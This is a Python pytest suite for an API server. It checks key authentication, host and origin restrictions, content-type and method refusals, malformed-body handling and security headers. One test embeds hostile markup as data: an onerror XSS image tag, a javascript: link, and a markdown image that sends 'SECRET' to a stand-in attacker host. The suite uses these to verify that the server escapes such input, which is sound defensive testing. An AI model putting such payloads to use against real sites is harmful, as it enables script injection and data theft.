"""Who may come into the server for programs, and how everybody else is told."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anthropic
import openai
import pytest
from api_server import Served, metric, serving
from official_clients import Chat, How, Messages
from starlette.datastructures import Headers, QueryParams

from toolwise.core.chat import ChatDelta, ChatRequest
from toolwise.core.clock import FakeClock
from toolwise.core.errors import BadInput, Unauthenticated
from toolwise.models.scripted_chat import ScriptedChat
from toolwise.serve.formats import APIS, api_of
from toolwise.serve.keys import Key, Keys, brought, digest_of, entry, new_key, read_keys

NOW = datetime(2026, 12, 1, 12, tzinfo=UTC)
GOOD, OTHER, OLD, AWAY, NARROW = (f"tw-{name}-{'k' * 30}" for name in ("good", "other", "old", "away", "narrow"))
HI = {"model": "scripted", "messages": [{"role": "user", "content": "say hi"}], "max_tokens": 9}
PATHS = [path.replace("{model:path}", "scripted") for api in APIS for path in api.paths]
ODD = ["", "/", "/v1", "/v1/chat", "/v1/chat/completions/", "/v1/messages/x", "/v1beta/x", "/v2", "//v1/models", "/%00"]


def keys(clock: FakeClock | None = None, audience: str = "lab") -> Keys:
    return Keys(
        [
            Key(digest_of(GOOD), "ann"),
            Key(digest_of(OTHER), "bob", expires=NOW + timedelta(hours=1), audience=frozenset({"lab", "office"})),
            Key(digest_of(OLD), "ann", expires=NOW),
            Key(digest_of(AWAY), "ann", audience=frozenset({"office"})),
            Key(digest_of(NARROW), "eve", doors=frozenset({"messages"})),
        ],
        audience,
        clock or FakeClock(NOW),
    )


@pytest.fixture(scope="module")
def locked() -> Iterator[Served]:
    """A server that asks for keys."""
    with serving(keys=keys()) as made:
        yield made


@pytest.fixture(scope="module")
def local() -> Iterator[Served]:
    """A server that answers this machine only."""
    with serving() as made:
        yield made


def shaped(answer: Any, path: str, status: int) -> None:
    """It is an error in the shape of the API to which the path belongs."""
    told = answer.json()
    assert answer.status_code == status, (path, told)
    assert answer.headers["content-type"] == "application/json"
    name = api_of(path).name
    if name == "messages":
        assert set(told) >= {"type", "error"}
        assert told["type"] == "error"
    if name == "gemini":
        assert told["error"]["code"] == status
    assert told["error"]["message"]


# Keys


@pytest.mark.case("H10")
@pytest.mark.parametrize("path", [*PATHS, "/v1/models", "/v1/models/scripted", "/metrics", "/openapi.json"])
@pytest.mark.parametrize("key", [None, "", "tw-none", OLD, AWAY, GOOD[:-1], GOOD + "x", digest_of(GOOD).hex()])
def test_a_key_that_is_missing_expired_or_for_another_server_opens_nothing(
    path: str, key: str | None, locked: Served
) -> None:
    before = metric(locked.get("/metrics", authorization=f"Bearer {GOOD}").text, 'toolwise_replies_total{stop="end"}')
    headers = {} if key is None else {"authorization": f"Bearer {key}".strip()}
    answer = locked.post(path, HI, **headers) if path in PATHS else locked.get(path, **headers)
    shaped(answer, path, 401)
    assert answer.headers["www-authenticate"] == "Bearer"
    after = metric(locked.get("/metrics", authorization=f"Bearer {GOOD}").text, 'toolwise_replies_total{stop="end"}')
    assert before == after


@pytest.mark.parametrize("how", ["authorization", "x-api-key", "x-goog-api-key", "query"])
def test_a_key_comes_in_as_each_client_sends_it(how: str, locked: Served) -> None:
    value = f"bearer {GOOD}" if how == "authorization" else GOOD
    path = f"/v1/models?key={GOOD}" if how == "query" else "/v1/models"
    assert locked.get(path, **({} if how == "query" else {how: value})).status_code == 200


def test_a_request_with_keys_of_two_people_is_nobodys(locked: Served) -> None:
    assert locked.get(f"/v1/models?key={GOOD}", **{"x-api-key": GOOD}).status_code == 200
    assert locked.get(f"/v1/models?key={OTHER}", **{"x-api-key": GOOD}).status_code == 401
    assert locked.get("/v1/models", **{"x-api-key": GOOD, "authorization": "Basic eDp5"}).status_code == 401


def test_the_official_clients_raise_their_own_error_for_a_wrong_key(locked: Served) -> None:
    with pytest.raises(openai.AuthenticationError):
        Chat(locked, "tw-none").turn(["say hi"], How())
    with pytest.raises(anthropic.AuthenticationError):
        Messages(locked, "tw-none").turn(["say hi"], How())
    assert Chat(locked, GOOD).turn(["say hi"]).text == "hi"
    assert Messages(locked, NARROW).turn(["say hi"]).text == "hi"
    with pytest.raises(openai.AuthenticationError):
        Chat(locked, NARROW).turn(["say hi"])


def test_a_key_stops_opening_when_its_time_comes() -> None:
    clock = FakeClock(NOW)
    known = keys(clock)
    sent = Headers({"x-api-key": OTHER})
    assert known.principal(sent, QueryParams(""), "chat").id == "bob"
    clock.advance(3_600)
    with pytest.raises(Unauthenticated):
        known.principal(sent, QueryParams(""), "chat")
    assert brought(Headers({"authorization": "Bearer"}), QueryParams("key=")) == ["", ""]


def test_a_file_of_keys_is_read_as_it_was_written(tmp_path: Path) -> None:
    made, until = new_key(), datetime(2030, 1, 1, tzinfo=UTC)
    (tmp_path / "keys.toml").write_text(entry(GOOD, "ann") + entry(made, 'o"x\\', until))
    assert made not in (tmp_path / "keys.toml").read_text()
    with serving(keys=read_keys(tmp_path / "keys.toml")) as at:
        assert at.get("/v1/models", **{"x-api-key": made}).status_code == 200
        assert at.get("/v1/models", **{"x-api-key": new_key()}).status_code == 401


@pytest.mark.parametrize(
    "text",
    [
        *(
            "",
            "keys = []",
            "keys = 5",
            "[[keys]]",
            '[[keys]]\nsha256 = "ab"\nprincipal = "x"',
            "other = 1",
            "=",
            "[keys]",
        ),
        *(entry(GOOD, "ann") + line for line in ("more = 1", "audience = 5", "doors = ['']", "expires = 2030-01-01")),
        *(
            entry(GOOD, "ann") + line
            for line in ("expires = 2030-01-01T00:00:00", "audience = [5]", entry(GOOD, "bob"))
        ),
        entry(GOOD, "ann").replace("ann", "\\u0007"),
    ],
)
def test_a_file_of_keys_that_is_none_is_refused(text: str, tmp_path: Path) -> None:
    (tmp_path / "keys.toml").write_text(text)
    with pytest.raises(BadInput):
        read_keys(tmp_path / "keys.toml")


# Hosts, sites, paths


@pytest.mark.case("L1")
@pytest.mark.parametrize("path", [*PATHS, "/v1/models"])
def test_a_request_for_another_host_is_refused(path: str, local: Served) -> None:
    def asked(host: str) -> Any:
        return local.post(path, HI, host=host) if path in PATHS else local.get(path, host=host)

    for host in ("evil.example", f"evil.example:{local.port}", f"evil@127.0.0.1:{local.port}"):
        shaped(asked(host), path, 403)
    assert asked(f"localhost.:{local.port}").status_code != 403


@pytest.mark.case("L2")
@pytest.mark.parametrize("path", PATHS)
def test_a_form_or_a_script_of_another_site_does_nothing(path: str, local: Served) -> None:
    with local.http() as client:
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/jsonp"):
            shaped(client.post(path, content=b"{}", headers={"content-type": kind}), path, 415)
        for origin in ("null", "http://evil.example", f"http://127.0.0.1:{local.port + 1}"):
            shaped(client.post(path, json=HI, headers={"origin": origin}), path, 403)
        asked = {"origin": "http://evil.example", "access-control-request-method": "POST"}
        answer = client.options(path, headers=asked)
        assert not [name for name in answer.headers if name.startswith("access-control")]
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("path", ODD)
def test_a_path_that_is_none_is_said_in_the_shape_of_its_neighbours(path: str, local: Served) -> None:
    shaped(local.get(path), path, 404)
    shaped(local.post(path, HI), path, 404)


@pytest.mark.parametrize("path", PATHS)
def test_another_method_is_refused(path: str, local: Served) -> None:
    for method in ("GET", "PUT", "DELETE", "PATCH"):
        with local.http() as client:
            answer = client.request(method, path, headers={"content-type": "application/json"})
        shaped(answer, path, 405)
        assert answer.headers["allow"] == "POST"


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "body",
    [
        *(b"", b"{", b"null", b"[]", b"5", b'"x"', b"\xff", b"\xef\xbb\xbf{}", b"[" * 100_000, b"{}"),
        *(b'{"model": "a", "model": "b"}', b'{"temperature": NaN}', b'{"seed": ' + b"9" * 5_000 + b"}"),
        *(b'{"messages": 5}', b'{"contents": 5}', b'{"input": 5, "model": "scripted"}', b'{"x": "\\ud800"}'),
    ],
)
def test_a_body_that_is_no_request_is_refused_in_the_formats_shape(path: str, body: bytes, local: Served) -> None:
    with local.http() as client:
        shaped(client.post(path, content=body, headers={"content-type": "application/json"}), path, 400)


def test_health_and_metrics_say_what_is_served_and_counted(local: Served) -> None:
    assert local.get("/health").json() == {"status": "ok"}
    Chat(local).turn(["say one two"])
    text = local.get("/metrics").text
    assert metric(text, "toolwise_places") == 8
    assert metric(text, "toolwise_places_taken") == metric(text, "toolwise_open_streams") == 0
    assert metric(text, 'toolwise_tokens_total{kind="completion"}') >= 2
    assert "one two" not in text


def test_every_answer_has_an_id_that_the_clients_show(local: Served) -> None:
    with pytest.raises(openai.NotFoundError) as refused:
        Chat(local).turn(["hi"], How(model="none"))
    assert refused.value.request_id
    first, second = (local.get("/health").headers["x-request-id"] for _ in range(2))
    assert first != second


@pytest.mark.parametrize("version", ["v1", "v1beta"])
def test_under_both_versions_gemini_s_paths_are_refused_in_its_shape(version: str, local: Served) -> None:
    path = f"/{version}/models/scripted:generateContent"
    assert api_of(path).name == "gemini"
    shaped(local.get(path), path, 405)


@pytest.mark.case("C10")
def test_markup_in_an_answer_or_a_refusal_is_data_to_whoever_shows_it(local: Served) -> None:
    markup = "<img src=x onerror=alert(1)>![x](https://evil.example/?q=SECRET)<a href='javascript:alert(1)'>"
    said = {"messages": [{"role": "user", "content": f"say {markup}"}], "model": "scripted"}
    answers = [
        local.post("/v1/chat/completions", said),
        local.post("/v1/chat/completions", said | {"stream": True}),
        local.post("/v1/chat/completions", said | {"model": markup}),
        local.get(f"/v1/models/{markup}"),
    ]
    for answer in answers:
        assert answer.headers["content-type"].split(";")[0] in ("application/json", "text/event-stream")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"].startswith("default-src 'self'")
    assert answers[0].json()["choices"][0]["message"]["content"] == markup


def test_a_model_is_told_whose_conversation_it_is_and_a_body_cannot_say_so() -> None:
    told: list[str] = []

    class Curious(ScriptedChat):
        def reply(self, request: ChatRequest) -> Iterator[ChatDelta]:
            told.append(request.whose)
            return super().reply(request)

    with serving([Curious()], keys=keys()) as at:
        for key in (GOOD, OTHER):
            assert at.post(PATHS[0], HI, authorization=f"Bearer {key}").status_code == 200
        assert at.post(PATHS[0], HI | {"whose": "bob"}, authorization=f"Bearer {GOOD}").status_code == 400
    assert told == ["ann", "bob"]
